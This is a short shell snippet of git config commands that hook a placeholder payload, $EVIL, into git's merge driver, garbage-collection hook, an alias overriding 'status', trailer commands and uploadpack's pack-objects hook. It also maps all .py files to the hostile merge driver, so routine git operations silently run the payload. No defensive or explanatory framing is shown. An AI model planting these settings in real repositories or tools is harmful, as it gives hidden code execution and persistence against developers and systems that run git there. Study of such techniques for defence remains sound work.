git config merge.evil.driver "$EVIL"
git config merge.default evil
git config gc.auto 1
git config gc.recentObjectsHook "$EVIL"
git config alias.status "!$EVIL"
git config trailer.evil.command "$EVIL"
git config trailer.evil.cmd "$EVIL"
git config trailer.evil.key Evil
git config uploadpack.packObjectsHook "$EVIL"
echo '*.py merge=evil' > .git/info/attributes
